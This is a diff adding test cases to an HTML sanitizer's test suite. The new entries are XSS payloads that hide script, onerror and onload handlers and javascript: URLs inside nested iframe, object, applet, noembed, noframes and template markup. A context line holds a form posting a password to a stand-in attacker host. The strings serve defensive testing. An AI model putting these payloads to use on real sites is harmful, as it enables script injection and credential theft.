@@ -67,6 +67,15 @@ class HtmlSanitizerTest {
                 "<object data=\"javascript:alert(1)\"></object>",
                 "<embed src=\"javascript:alert(1)\">",
                 "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
+                // markup inside embeds, whose fallback text is kept
+                "<iframe><script>alert(1)</script><img src=x onerror=alert(1)>text</iframe>",
+                "<iframe>&lt;script&gt;alert(1)&lt;/script&gt;</iframe>",
+                "<iframe><iframe><iframe><iframe><script>alert(1)</script>",
+                "<object><embed src=\"javascript:alert(1)\"><a href=\"javascript:alert(1)\">x</a></object>",
+                "<applet code=x><param name=p value=\"javascript:alert(1)\"><svg onload=alert(1)>y</svg></applet>",
+                "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
+                "<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>",
+                "<object><template><script>alert(1)</script></template><style>*{}</style></object>",
                 // forms
                 "<form action=\"https://evil.example/steal\"><input name=p type=password><button>Go</button></form>",
                 "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
